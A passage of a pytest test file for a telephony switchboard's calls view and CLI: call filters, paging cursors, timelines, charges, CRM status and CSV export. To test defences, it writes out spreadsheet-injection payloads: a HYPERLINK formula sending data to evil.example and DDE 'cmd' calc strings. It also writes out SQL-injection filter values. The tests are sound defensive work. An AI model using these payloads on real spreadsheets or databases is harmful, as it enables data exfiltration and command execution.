"""The calls view (core.calls) and ``switchboard calls``: recent calls, filters, pages,
one call's timeline, the overview, the plugins' details; through the real pipeline, on
both stores, and once through a real server as an operator would use it."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
import webtest

from core import calls
from core.app import make_app
from core.calls import Filters
from core.config import load
from core.decisions import Decision
from core.events import is_e164
from core.hookspecs import hookimpl
from core.runtime import Runtime
from core.store import InspectTimeout
from core.svaml import ConnectPstn
from core.testing import TEST_KEY, TEST_SECRET
from tests.cli_runner import cli
from tests.conftest import run_cli
from tests.fake_crm import FakeCrm
from tests.helpers import Fixed, Recorder, ace, dice, ice, notify, pie, post

RICH, LOW, UK = "+12015550001", "+12015550002", "+442071110000"  # credit accounts (cli)
DIALLED, PREMIUM, LONDON = "+15612600684", "+19005550100", "+442079460000"
CRM_SECRET = "crm-secret"
REPO = Path(__file__).resolve().parent.parent


def operator_config(tmp_path: Path, store_url: str, crm: str = "") -> Path:
    """The built-in plugins as an operator runs them: the allowlist (premium numbers
    denied), prepaid credit per caller (LOW's 0.10 USD buys 300 s), the CRM."""
    path = tmp_path / "config.toml"
    path.write_text(
        f"""
[server]
port = 0
[store]
url = "{store_url}"
[[sinch.keys]]
key = "{TEST_KEY}"
secret = "{TEST_SECRET}"
[plugins]
enabled = ["allowlist", "credit", "crm"]
[plugins.allowlist]
allow = ["+1561*", "+44*"]
max_duration = 3600
[plugins.credit]
account_from = "cli"
rates = {{ "+1" = "0.02", "+44" = "0.05" }}
initial_accounts = {{ "{RICH}" = "5.00", "{LOW}" = "0.10", "{UK}" = "1.00" }}
[plugins.crm]
{crm}
"""
    )
    return path


def started(path: Path) -> tuple[Runtime, webtest.TestApp]:
    """The configuration's runtime, started as a command starts it (no background work:
    the CRM outbox is drained by the test)."""
    rt = Runtime.build(load(path))
    rt.start(serving=False)
    return rt, webtest.TestApp(make_app(rt))


def call(app, callid, caller=RICH, to=DIALLED, duration=None, **dice_fields):
    post(app, ice(callid, cli=caller, to=to))
    if duration is not None:
        post(app, dice(callid, duration=duration, from_=caller, to=to, **dice_fields))


@pytest.fixture
def operator(tmp_path, backend):
    """(config path, runtime, app) on the test's backend; closed after the test."""
    path = operator_config(tmp_path, backend.url(tmp_path, "calls"))
    rt, app = started(path)
    yield path, rt, app
    rt.close()


# ---------------------------------------------------------------------------- rows


def test_a_call_is_listed_with_its_answer_rule_cap_and_duration(make, backend):
    rt, app = make(
        {
            "router": Fixed(Decision.propose(ConnectPstn(number=DIALLED))),
            "cap": Fixed(Decision.cap(300)),
        }
    )
    before = time.time()
    post(app, ice("c1", cli="+442071234567", to=DIALLED))
    post(app, dice("c1", duration=95, from_="+442071234567"))
    rt.pipeline.wait_idle()
    page = calls.recent_calls(rt.store)
    assert page.next is None
    (row,) = page.rows
    assert (row.callid, row.caller, row.destination) == ("c1", "+442071234567", DIALLED)
    assert (row.answer, row.rule, row.decided_by) == ("connectPstn", "proposal", ("router",))
    assert (row.capped_at, row.capped_by, row.duration, row.result) == (300, "cap", 95, "ANSWERED")
    assert (row.fallback, row.duplicates, dict(row.details)) == (False, 0, {})
    assert before <= row.started_at <= time.time() and row.elapsed_ms > 0


def test_filters_by_number_rule_outcome_plugin_and_time(operator):
    _, rt, app = operator
    call(app, "ok-1", RICH, DIALLED)
    call(app, "premium", RICH, PREMIUM)  # denied by the allowlist
    call(app, "uk", UK, LONDON)
    call(app, "broke", "+12015559999", DIALLED)  # no account: denied by credit
    call(app, "low", LOW, DIALLED)
    middle = time.time()
    call(app, "ok-2", RICH, DIALLED)

    def ids(**filters):
        return [r.callid for r in calls.recent_calls(rt.store, Filters(**filters)).rows]

    assert ids() == ["ok-2", "low", "broke", "uk", "premium", "ok-1"]
    assert ids(number="+44") == ["uk"] == ids(number="+44*") == ids(caller="+4420")
    assert ids(destination="+1900") == ["premium"]
    mine = ["ok-2", "low", "premium", "ok-1"]
    assert ids(caller="+1201555000") == mine  # a prefix: not "+12015559999"
    assert ids(number="+120155500") == mine
    assert ids(caller="+12015550002") == ["low"]  # a whole number is a prefix too
    assert ids(caller="+1201555999") == ["broke"]  # a prefix ending in 9: its range carries
    assert ids(rule="deny") == ["broke", "premium"]
    assert ids(outcome="hangup") == ["broke", "premium"]
    assert ids(outcome="connectPstn", caller="+1201555000") == ["ok-2", "low", "ok-1"]
    assert ids(plugin="allowlist", rule="deny") == ["premium"]
    assert ids(plugin="credit") == ["broke"]
    assert ids(plugin="cred") == []  # a plugin's name, not a part of one
    assert ids(since=middle) == ["ok-2"]
    assert ids(until=middle) == ["low", "broke", "uk", "premium", "ok-1"]
    assert ids(fallbacks=True) == [] and ids(duplicates=True) == []
    low = calls.recent_calls(rt.store, Filters(caller=LOW)).rows[0]
    assert (low.capped_at, low.capped_by, low.decided_by) == (300, "credit", ("allowlist",))


def test_pages_never_repeat_or_lose_a_call_across_equal_timestamps(operator):
    _, rt, app = operator
    for i in range(9):
        call(app, f"p{i}", RICH, DIALLED)
    # several server processes can receive ICEs in the same instant: make four ties
    rt.store.write(
        "UPDATE callbacks SET received_at = 1000.0 WHERE event = 'ice' AND callid IN "
        "('p2', 'p3', 'p4', 'p5')"
    )
    everything = [r.callid for r in calls.recent_calls(rt.store, limit=100).rows]
    for limit in (1, 2, 3, 4):
        seen, after = [], None
        while True:
            page = calls.recent_calls(rt.store, limit=limit, after=after)
            seen += [r.callid for r in page.rows]
            if page.next is None:
                break
            after = page.next
        assert seen == everything, limit
    assert len(everything) == 9 and everything[-4:] == ["p5", "p4", "p3", "p2"]
    # a call arriving between two pages does not shift the older pages
    first = calls.recent_calls(rt.store, limit=3)
    call(app, "newer", RICH, DIALLED)
    second = calls.recent_calls(rt.store, limit=3, after=first.next)
    assert [r.callid for r in first.rows + second.rows] == everything[:6]
    with pytest.raises(ValueError, match="not a cursor"):
        calls.recent_calls(rt.store, after="garbage!")


def test_filtered_pages_use_the_same_cursor(operator):
    _, rt, app = operator
    for i in range(5):
        call(app, f"d{i}", RICH, PREMIUM)
        call(app, f"a{i}", RICH, DIALLED)
    seen, after = [], None
    while True:
        page = calls.recent_calls(rt.store, Filters(rule="deny"), limit=2, after=after)
        seen += [r.callid for r in page.rows]
        if not page.next:
            break
        after = page.next
    assert seen == ["d4", "d3", "d2", "d1", "d0"]


# ---------------------------------------------------------------------------- duplicates


def test_redeliveries_are_counted_on_the_call_and_marked_on_the_callback(make, backend):
    recorder = Recorder()
    rt, app = make({"rec": recorder})
    post(app, ice("dup", cli=RICH))
    post(app, ice("dup", cli=RICH))  # Sinch did not get the answer: the same ICE again
    post(app, ace("dup"))
    post(app, dice("dup"))
    post(app, dice("dup"))
    post(app, dice("dup"))
    post(app, ice("single", cli=RICH))
    rt.pipeline.wait_idle()
    (row,) = calls.recent_calls(rt.store, Filters(duplicates=True)).rows
    assert (row.callid, row.duplicates) == ("dup", 3)
    found = calls.timeline(rt.store, "dup")
    assert [(c.event, c.duplicate, c.redeliveries) for c in found.callbacks] == [
        ("ice", True, 1),
        ("ace", False, 0),
        ("dice", True, 2),
    ]
    assert calls.overview(rt.store, 0, time.time() + 1).duplicates == 3


# ---------------------------------------------------------------------------- fallbacks


class Suppressing:
    """Proposes, for calls "fb*", an answer that would leave the DiCE unsent: refused,
    the fallback is sent."""

    @hookimpl
    def switchboard_ice(self, event):
        suppress = event.callid.startswith("fb")
        return Decision.propose(ConnectPstn(number=DIALLED, suppress_callbacks=suppress))

    @hookimpl
    def switchboard_dice(self, event):
        pass


def test_calls_answered_with_the_fallback(make, backend):
    rt, app = make({"odd": Suppressing()})
    post(app, ice("fb1"))
    post(app, ice("fine"))
    (row,) = calls.recent_calls(rt.store, Filters(fallbacks=True)).rows
    assert (row.callid, row.answer, row.rule, row.fallback) == (
        "fb1",
        "hangup",
        "callbacks-suppressed",
        True,
    )
    assert [r.fallback for r in calls.recent_calls(rt.store).rows] == [False, True]
    assert calls.overview(rt.store, 0, time.time() + 1).fallbacks == {"callbacks-suppressed": 1}


# ---------------------------------------------------------------------------- timeline


def test_timeline_in_arrival_order_with_answers_and_traces(make, backend):
    rt, app = make({"router": Fixed(Decision.propose(ConnectPstn(number=DIALLED)))})
    for event in (ice("t1"), ace("t1"), pie("t1", "2"), dice("t1", duration=30), notify("t1")):
        post(app, event)
        time.sleep(0.002)  # distinct arrival times
    rt.pipeline.wait_idle()
    found = calls.timeline(rt.store, "t1")
    assert [c.event for c in found.callbacks] == ["ice", "ace", "pie", "dice", "notify"]
    first = found.callbacks[0]
    assert first.answer["action"]["name"] == "connectPstn"
    assert first.trace.rule == "proposal" and first.trace.plugin("router").status == "decided"
    assert found.callbacks[3].answer is None and found.callbacks[3].state == "done"
    assert found.row.callid == "t1" and found.row.duration == 30
    assert calls.timeline(rt.store, "nobody") is None
    # a DiCE without its ICE: a timeline, no row
    post(app, dice("orphan"))
    orphan = calls.timeline(rt.store, "orphan")
    assert orphan.row is None and [c.event for c in orphan.callbacks] == ["dice"]


# ---------------------------------------------------------------------------- details


def test_credit_and_crm_details(tmp_path, backend):
    with FakeCrm(CRM_SECRET, fail_first=1) as crm:
        url = backend.url(tmp_path, "details")
        config = f'webhook_url = "{crm.url}"\nwebhook_secret = "{CRM_SECRET}"\nmax_attempts = 1'
        rt, app = started(operator_config(tmp_path, url, config))
        try:
            plugin = rt.plugins.pm.get_plugin("crm")
            call(app, "dead", RICH, DIALLED, duration=30)
            plugin.drain(now=time.time() + 3600)  # the CRM fails it: a dead letter
            call(app, "paid", RICH, DIALLED, duration=95)
            plugin.drain(now=time.time() + 3600)  # delivered
            call(app, "over", LOW, DIALLED, duration=1000)  # granted 300 s
            call(app, "live", RICH, DIALLED)  # still running: reserved
            call(app, "denied", RICH, PREMIUM)
            page = calls.recent_calls(rt.store, plugins=rt.plugins)
        finally:
            rt.close()
    details = {r.callid: dict(r.details) for r in page.rows}
    assert details["paid"]["charge"] == "0.04 USD"  # 95 s in 60/60 increments at 0.02/min
    assert details["paid"]["account"] == RICH
    assert details["paid"]["reservation"].startswith("settled: ")
    assert details["paid"]["crm"].startswith("delivered ")
    assert details["dead"]["crm"] == "dead after 1 attempts: HTTP 503"
    assert details["over"]["crm"] == "pending"
    assert details["over"]["charge"] == "0.10 USD"
    assert details["over"]["overrun"].startswith("1000 s reported against 300 s granted")
    assert details["live"]["charge"].startswith("pending (")
    assert "crm" not in details["live"]
    assert details["denied"]["charge"] == "none (reservation released)"


class Failing:
    @hookimpl
    def switchboard_call_details(self, store, callids):
        raise RuntimeError("down")


class Labels:
    def __init__(self, labels):
        self.labels = labels

    @hookimpl
    def switchboard_call_details(self, store, callids):
        return {c: self.labels for c in callids} | {"not-on-the-page": {"x": "y"}}


def test_details_merge_in_precedence_order_and_survive_a_failing_plugin(make, backend):
    rt, app = make(
        {
            "first": Labels({"charge": "1.00 USD"}),
            "broken": Failing(),
            "second": Labels({"charge": "9.99 USD", "note": "hello"}),
        }
    )
    post(app, ice("d1"))
    (row,) = calls.recent_calls(rt.store, plugins=rt.plugins).rows
    assert dict(row.details) == {
        "charge": "1.00 USD",
        "broken": "details unavailable (RuntimeError)",
        "note": "hello",
    }
    assert dict(calls.timeline(rt.store, "d1", rt.plugins).details) == dict(row.details)


# ---------------------------------------------------------------------------- overview


def test_overview_of_a_window(operator):
    _, rt, app = operator
    start = time.time()
    call(app, "o1", RICH, DIALLED, duration=10)
    call(app, "o2", RICH, PREMIUM)
    call(app, "o3", "+12015559999", DIALLED)
    post(app, ice("o1", cli=RICH))  # a redelivery
    seen = calls.overview(rt.store, start - 60, time.time() + 1)
    assert seen.calls == 3
    assert seen.outcomes == {"connectPstn": 1, "hangup": 2}
    assert seen.denials == {("allowlist", "deny"): 1, ("credit", "deny"): 1}
    assert seen.duplicates == 1 and seen.fallbacks == {}
    assert sum(n for _, n in seen.per_minute) == 3
    assert all(m % 60 == 0 for m, _ in seen.per_minute)
    assert 0 < seen.latency_p50_ms <= seen.latency_p99_ms
    assert (seen.waiting_retry, seen.parked) == (0, 0)
    hour = math.floor(start / 60) * 60 - 7200
    empty = calls.overview(rt.store, hour, hour + 3600)
    assert (empty.calls, empty.latency_p50_ms, len(empty.per_minute)) == (0, None, 60)


def test_plain_names_are_planned_as_literals_and_anything_else_is_a_parameter(operator):
    """An answer, rule or plugin name is written into the SQL (PostgreSQL then plans it
    with its statistics, never with a generic plan made for an average value); any other
    text is a parameter, so a filter is never SQL."""
    _, rt, app = operator
    call(app, "q1", RICH, PREMIUM)
    term = calls._one_of("c.outcome", ["connectPstn", "it's", "a b"])
    assert term.read == "c.outcome IN ('connectPstn', ?, ?)"
    assert term.read_params == ("it's", "a b") == term.test_params
    assert term.streams[0] == ("c.outcome = 'connectPstn'", ())
    for odd in ("x' OR '1'='1", "hangup'--", "hangup\\", "%", "hang_p"):
        for name in ("outcome", "rule", "plugin"):
            assert calls.recent_calls(rt.store, Filters(**{name: odd})).rows == (), (name, odd)
    assert [r.callid for r in calls.recent_calls(rt.store, Filters(outcome="hangup")).rows] == [
        "q1"
    ]


def test_prefix_ranges():
    assert calls._next_prefix("+44") == "+45"
    assert calls._next_prefix("+449") == "+45"
    assert calls._next_prefix("+99") is None
    assert calls._next_prefix("sip:al") is None


# ---------------------------------------------------------------------------- the CLI


def test_calls_command_text_json_csv_and_timeline(operator):
    path, rt, app = operator
    call(app, "c-ok", RICH, DIALLED, duration=95)
    call(app, "c-low", LOW, DIALLED, duration=200)
    call(app, "c-premium", RICH, PREMIUM)
    post(app, ice("c-ok", cli=RICH))
    rt.pipeline.wait_idle()

    text = cli(path, "calls")
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    assert lines[0].split() == [
        "TIME", "CALLID", "CALLER", "DESTINATION", "ANSWER", "RULE", "BY", "DURATION", "CHARGE", "NOTES"
    ]  # fmt: skip
    assert [line.split()[1] for line in lines[1:4]] == ["c-premium", "c-low", "c-ok"]
    assert "connectPstn 300s" in lines[2] and "0.10 USD" in lines[2]
    assert "redelivered x1" in lines[3] and lines[-1] == "3 calls"

    got = json.loads(cli(path, "calls", "--json", "--limit", "2").stdout)
    assert [c["callid"] for c in got["calls"]] == ["c-premium", "c-low"] and got["next"]
    rest = json.loads(cli(path, "calls", "--json", "--after", got["next"]).stdout)
    assert [c["callid"] for c in rest["calls"]] == ["c-ok"] and rest["next"] is None
    assert rest["calls"][0]["details"]["charge"] == "0.04 USD"

    table = list(csv.DictReader(io.StringIO(cli(path, "calls", "--csv", "--rule", "deny").stdout)))
    assert [(r["callid"], r["rule"], r["decided_by"], r["charge"]) for r in table] == [
        ("c-premium", "deny", "allowlist", "none (reservation released)")
    ]

    shown = cli(path, "calls", "c-ok")
    assert shown.returncode == 0, shown.stderr
    assert "capped at 3600 s" in shown.stdout and "charge: 0.04 USD" in shown.stdout
    assert "ICE done [DUPLICATE: delivered 2 times]" in shown.stdout
    assert "trace ice: rule allow-default" in shown.stdout and "DICE done" in shown.stdout
    as_json = json.loads(cli(path, "calls", "c-ok", "--json").stdout)
    assert [c["event"] for c in as_json["callbacks"]] == ["ice", "dice"]
    assert as_json["callbacks"][0]["trace"]["rule"] == "allow-default"

    assert cli(path, "calls", "nobody").returncode == 1
    bad = cli(path, "calls", "--after", "nonsense")
    assert bad.returncode == 2 and "not a cursor" in bad.stderr
    when = cli(path, "calls", "--since", "yesterday")
    assert when.returncode == 2 and "not a time" in when.stderr
    assert "no calls" in cli(path, "calls", "--since", "2999-01-01T00:00").stdout
    assert len(json.loads(cli(path, "calls", "--json", "--since", "1h").stdout)["calls"]) == 3


def test_calls_command_says_where_a_page_stopped_looking(operator, monkeypatch):
    path, rt, app = operator
    call(app, "s-premium", RICH, PREMIUM)
    call(app, "s-ok", RICH, DIALLED)
    call(app, "s-broke", "+12015559999", DIALLED)
    monkeypatch.setattr(calls, "NARROW", 1)  # every filter broad: walked
    monkeypatch.setattr(calls, "FIRST_STEP", 1)
    monkeypatch.setattr(calls, "SCAN_ROWS", 1)  # one call looked at a page
    args = ("calls", "--outcome", "hangup", "--caller", "+1")
    first = cli(path, *args)
    assert first.returncode == 0, first.stderr
    *rows, last = first.stdout.splitlines()
    assert [line.split()[1] for line in rows[1:]] == ["s-broke"]
    assert last.startswith("1 call among the calls back to ") and "further back: --after " in last
    got = json.loads(cli(path, *args, "--json").stdout)
    assert got["scanned_to"] == got["calls"][0]["started_at"] and got["next"]
    seen, after = [], got["next"]
    while after:
        page = json.loads(cli(path, *args, "--json", "--after", after).stdout)
        seen += [c["callid"] for c in page["calls"]]
        after = page["next"]
    assert seen == ["s-premium"]
    empty = cli(path, "calls", "--outcome", "runMenu", "--caller", "+1")
    assert empty.stdout.strip() == "no calls"  # no call has that answer: counted, not walked


def test_an_operator_answers_the_issues_questions_from_a_real_server(serve, tmp_path, backend):
    """Done when: which calls were denied in the last hour and by which rule; why this
    call was capped at 300 s; what this account was charged and for which calls; which
    CRM records are stuck. Traffic from `simulate` to a real server, answers from
    `switchboard calls` run as a subprocess."""
    with FakeCrm(CRM_SECRET, fail_first=10**6) as crm:  # the CRM is down
        crm_config = (
            f'webhook_url = "{crm.url}"\nwebhook_secret = "{CRM_SECRET}"\n'
            "max_attempts = 1\npoll_interval = 0.05"
        )
        path = operator_config(tmp_path, backend.url(tmp_path, "real"), crm_config)
        server = serve(path.read_text(), name="real")
        config = server.config
        for args in (
            ("ice", "--callid", "r-ok", "--cli", RICH, "--to", DIALLED),
            ("dice", "--callid", "r-ok", "--cli", RICH, "--to", DIALLED, "--duration", "95"),
            ("ice", "--callid", "r-premium", "--cli", RICH, "--to", PREMIUM),
            ("ice", "--callid", "r-broke", "--cli", "+12015559999", "--to", DIALLED),
            ("ice", "--callid", "r-low", "--cli", LOW, "--to", DIALLED),
            ("dice", "--callid", "r-low", "--cli", LOW, "--to", DIALLED, "--duration", "250"),
        ):
            sent = run_cli(config, "simulate", *args)
            assert sent.returncode == 0, sent.stdout + sent.stderr
        deadline = time.time() + 10
        while time.time() < deadline:  # the CRM worker gives both records up
            stuck = run_cli(config, "calls", "--json")
            crm_states = [c["details"].get("crm", "") for c in json.loads(stuck.stdout)["calls"]]
            if sum(s.startswith("dead") for s in crm_states) == 2:
                break
            time.sleep(0.1)

        # which calls were denied in the last hour, and by which rule?
        denied = run_cli(config, "calls", "--outcome", "hangup", "--since", "1h")
        assert denied.returncode == 0, denied.stderr
        rows = [line.split() for line in denied.stdout.splitlines()[1:-1]]
        assert [(r[1], r[4], r[5], r[6]) for r in rows] == [
            ("r-broke", "hangup", "deny", "credit"),
            ("r-premium", "hangup", "deny", "allowlist"),
        ]
        shown = run_cli(config, "calls", "r-broke")
        assert "unknown account +12015559999" in shown.stdout  # credit's reason, in the trace

        # why was this call capped at 300 s?
        why = run_cli(config, "calls", "r-low")
        assert "capped at 300 s by credit" in why.stdout
        assert f"{LOW}: reserved 0.10 USD for 300 s" in why.stdout

        # what was this account charged, and for which calls? (accounts are callers here)
        charged = run_cli(config, "calls", "--caller", LOW, "--csv")
        rows = list(csv.DictReader(io.StringIO(charged.stdout)))
        assert [(r["callid"], r["account"], r["charge"]) for r in rows] == [
            ("r-low", LOW, "0.10 USD")
        ]
        assert "250 s reported against 300 s granted" not in charged.stdout  # no overrun
        rich = run_cli(config, "calls", "--caller", RICH)
        assert "r-ok" in rich.stdout and "0.04 USD" in rich.stdout

        # which CRM records are stuck?
        stuck = run_cli(config, "calls", "--json")
        dead = {
            c["callid"]: c["details"]["crm"]
            for c in json.loads(stuck.stdout)["calls"]
            if c["details"].get("crm", "").startswith("dead")
        }
        assert dead == {
            "r-ok": "dead after 1 attempts: HTTP 503",
            "r-low": "dead after 1 attempts: HTTP 503",
        }
        head = run_cli(config, "calls")
        assert head.returncode == 0 and head.stderr == ""
        assert server.stop() == 0


def test_an_operators_long_read_never_holds_up_the_callbacks(make, backend):
    """The calls view reads with ``Store.inspect``: while one scans for a second, the
    callbacks' own reads and writes go on."""
    rt, app = make({"router": Fixed(Decision.propose(ConnectPstn(number=DIALLED)))})
    slow = (
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3000000) "
        "SELECT COUNT(*) FROM n"
    )
    scanning = threading.Thread(target=rt.store.inspect, args=(slow,))
    began = time.monotonic()
    scanning.start()
    time.sleep(0.05)
    post(app, ice("during"))
    post(app, dice("during"))
    assert rt.store.query("SELECT answer FROM callbacks WHERE callid = 'during'")
    waited = time.monotonic() - began
    scanning.join()
    took = time.monotonic() - began
    assert took > 2 * waited, (waited, took)  # the scan outlasted the callbacks by far


def test_calls_piped_into_head_end_quietly(tmp_path):
    db = tmp_path / "many.db"
    path = operator_config(tmp_path, f"sqlite:///{db}")
    rt, _ = started(path)  # the schema
    rt.close()
    sys.path.insert(0, str(REPO / "bench"))
    import console  # bench/console.py: its bulk loader

    console.load_sqlite(str(db), 1500, 86400.0)
    piped = subprocess.run(
        f"{sys.executable} {REPO / 'serve.py'} --config {path} calls --limit 1000 | head -2",
        shell=True,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert piped.stdout.splitlines()[0].startswith("TIME ") and piped.stdout.count("\n") == 2
    assert piped.stderr == ""


SLOW = (  # a read that runs for seconds on either store
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 30000000) "
    "SELECT COUNT(*) FROM n"
)


def test_an_operators_read_is_stopped_at_its_time_limit(backend):
    """``Store.inspect`` ends a read that runs past ``inspect_timeout`` (PostgreSQL:
    ``SET LOCAL statement_timeout``; SQLite: the progress handler), and the store goes
    on: the connection is back, the next read runs in full."""
    store = backend.store()
    try:
        assert store.inspect_timeout == 10.0
        store.inspect_timeout = 0.2
        began = time.monotonic()
        with pytest.raises(InspectTimeout, match=r"took longer than 0\.2 s; narrow the filters"):
            store.inspect(SLOW)
        assert time.monotonic() - began < 3
        for _ in range(20):  # as many as the pool holds, and more: none was kept
            assert store.inspect("SELECT 1") == [(1,)]
        assert store.query("SELECT 2") == [(2,)]  # the callbacks' reads never had a limit
        store.inspect_timeout = 30.0
        assert store.inspect(SLOW.replace("30000000", "1000")) == [(1000,)]
    finally:
        store.close()


def test_a_calls_command_past_its_time_limit_says_so(tmp_path, backend):
    """``switchboard calls`` over many calls, with a tiny ``store.inspect_timeout``: one
    error line, a non-zero exit, no traceback."""
    url = backend.url(tmp_path, "slow")
    path = operator_config(tmp_path, url)
    rt, _ = started(path)  # the schema
    rt.close()
    sys.path.insert(0, str(REPO / "bench"))
    import console  # bench/console.py: its bulk loaders

    if backend.name == "sqlite":
        console.load_sqlite(str(tmp_path / "slow.db"), 60_000, 86400.0)
    else:
        console.load_postgres(url, 60_000, 86400.0)
    text = path.read_text().replace("[store]\n", "[store]\ninspect_timeout = 0.001\n")
    path.write_text(text)
    ran = run_cli(path, "calls", "--outcome", "connectPstn", "--rule", "deny")  # none together
    assert ran.returncode != 0, ran.stdout
    assert ran.stderr.strip().splitlines() == [
        "error: the query took longer than 0.001 s; narrow the filters"
    ], ran.stderr


def _cursor(value: object) -> str:
    import base64

    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "option, value",
    [
        ("--after", "nonsense"),
        ("--after", _cursor([1e300, "x"])),
        ("--after", _cursor(["NaN", "x"])),
        ("--after", _cursor([2**70, "x"])),
        ("--after", _cursor([-1, "x"])),
        ("--after", _cursor([1.5, "a\x00b"])),
        ("--since", "nan"),
        ("--since", "inf"),
        ("--until", "-inf"),
        ("--until", "1e400"),
        ("--since", "9" * 400 + "s"),
        ("--since", "0001-01-01T00:00+14:00"),
        ("--until", str(2**64)),
        ("--limit", str(2**63)),
    ],
)
def test_a_cursor_or_time_out_of_range_is_a_usage_error(operator, option, value):
    """Refused as a usage error naming the option, before any query: a forged cursor
    (a time past any call's, a call id PostgreSQL cannot compare), a time that is not
    finite or not in any calendar."""
    path, _, app = operator
    call(app, "c-one")
    ran = cli(path, "calls", option, value)
    assert ran.returncode == 2, (ran.stdout, ran.stderr)
    assert f"Invalid value for '{option}'" in ran.stderr, ran.stderr


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(config: Path, *args: str) -> list[dict[str, str]]:
    """The CSV a command prints, read as a spreadsheet reads it: its bytes as they are
    (text mode would turn a carriage return into a line end)."""
    ran = subprocess.run(
        [sys.executable, str(REPO / "serve.py"), "--config", str(config), *args],
        capture_output=True,
        timeout=120,
        cwd=config.parent,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        check=False,
    )
    assert ran.returncode == 0, ran.stderr
    text = ran.stdout.decode()
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or is_e164(cell), cell
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_exports_never_hold_a_formula(serve, tmp_path, backend):
    """Callers that are spreadsheet formulas, recorded by a real server through the
    pipeline, come out of ``switchboard calls --csv`` and ``crm export --format csv``
    behind a single quote; an E.164 number (a ``+`` and digits) comes out unchanged."""
    path = operator_config(tmp_path, backend.url(tmp_path, "formulas"))
    server = serve(path.read_text(), name="formulas")
    callers = {f"f-{i}": caller for i, caller in enumerate(FORMULAS)}
    callers["f-e164"] = RICH
    for callid, caller in callers.items():
        event = ice(callid, to=DIALLED)
        event["cli"] = caller
        answered = server.post(event)
        assert answered[0] == 200, answered
        ended = dice(callid, duration=5, to=DIALLED)
        ended["from"] = caller
        assert server.post(ended)[0] == 200

    rows = {r["callid"]: r for r in _csv_rows(server.config, "calls", "--csv", "--limit", "99")}
    neutralised = {**{c: "'" + v for c, v in callers.items() if v != RICH}, "f-e164": RICH}
    assert {c: rows[c]["caller"] for c in callers} == neutralised
    deadline = time.time() + 10
    while time.time() < deadline:  # the DiCEs are recorded by the crm plugin
        records = _csv_rows(server.config, "crm", "export", "--format", "csv")
        if len(records) == len(callers):
            break
        time.sleep(0.1)
    assert {r["callid"]: r["caller"] for r in records} == neutralised
    assert server.stop() == 0
# ---------------------------------------------------------------------------- plans

PREFIXES = ("+1201", "+1561", "+1900", "+4420", "+4479", "+33")
OUTCOMES = ("connectPstn", "connectPstn", "connectPstn", "hangup", "runMenu")
RULES = ("allow-default", "deny", "proposal", "budget")
DECIDERS = (None, "allowlist", "credit", "allowlist,credit", "vip")


def bulk_calls(store, n: int = 400, seed: int = 5) -> list[dict]:
    """``n`` calls as their ICE rows (and a DiCE for some), in time order with ties, of
    every kind the filters tell apart; returns them as dicts, the way a test filters."""
    import random

    rng = random.Random(seed)
    made = []
    with store.transaction() as tx:
        for i in range(n):
            rule = rng.choice(RULES)
            row = {
                "callid": f"b{i:04d}",
                "at": 1_000_000.0 + i // 3,  # three calls a second: ties on received_at
                "caller": rng.choice(PREFIXES) + f"{rng.randrange(10**6):06d}",
                "destination": rng.choice(PREFIXES) + f"{rng.randrange(10**6):06d}",
                "outcome": "hangup" if rule in ("deny", "budget") else rng.choice(OUTCOMES),
                "rule": rule,
                "decided_by": None if rule == "budget" else rng.choice(DECIDERS),
                "again": 1 if rng.random() < 0.05 else 0,
            }
            tx.execute(
                "INSERT INTO callbacks (callid, event, sub, state, received_at, lease_until, "
                "caller, destination, outcome, rule, decided_by, fallback, call_redeliveries) "
                "VALUES (?, 'ice', '', 'done', ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                (row["callid"], row["at"], row["at"], row["caller"], row["destination"],
                 row["outcome"], rule, row["decided_by"], int(rule == "budget"), row["again"]),
            )  # fmt: skip
            if i % 4 == 0:
                tx.execute(
                    "INSERT INTO callbacks (callid, event, sub, state, received_at, "
                    "lease_until, duration, result) VALUES (?, 'dice', '', 'done', ?, ?, 30, "
                    "'ANSWERED')",
                    (row["callid"], row["at"] + 40, row["at"] + 40),
                )
            made.append(row)
    if store.backend == "postgresql":
        store.write("ANALYZE callbacks")  # as autovacuum would: the planner's statistics
    return made


FILTER_CASES = [
    {},
    {"caller": "+1"},  # most calls
    {"caller": "+4420"},  # a sixth
    {"caller": "+4420123456"},  # a number or none
    {"caller": "*"},  # any caller
    {"number": "+44"},
    {"destination": "+1900"},
    {"outcome": "hangup"},
    {"outcome": "park"},  # no call
    {"rule": "deny"},
    {"plugin": "credit"},  # two decided_by values
    {"plugin": "vip"},
    {"plugin": "crm"},  # never decided a call
    {"duplicates": True},
    {"fallbacks": True},
    {"since": 1_000_030.0, "until": 1_000_090.0},
    {"caller": "+1", "outcome": "hangup"},
    {"caller": "+1", "outcome": "runMenu", "plugin": "allowlist"},
    {"number": "+33", "duplicates": True},
    {"destination": "+1900", "rule": "proposal", "plugin": "vip"},
    {"outcome": "connectPstn", "rule": "deny"},  # both broad, none together
    {"caller": "+1561", "fallbacks": True, "until": 1_000_100.0},
]


def expected(made: list[dict], f: Filters) -> list[str]:
    def starts(value, prefix):
        prefix = prefix.strip().rstrip("*")
        return value is not None and value.startswith(prefix)

    def keep(r):
        return (
            (not f.number or starts(r["caller"], f.number) or starts(r["destination"], f.number))
            and (not f.caller or starts(r["caller"], f.caller))
            and (not f.destination or starts(r["destination"], f.destination))
            and (not f.outcome or r["outcome"] == f.outcome)
            and (not f.rule or r["rule"] == f.rule)
            and (not f.plugin or f.plugin in (r["decided_by"] or "").split(","))
            and (not f.duplicates or r["again"] > 0)
            and (not f.fallbacks or r["rule"] in calls.FALLBACKS)
            and (f.since is None or r["at"] >= f.since)
            and (f.until is None or r["at"] < f.until)
        )

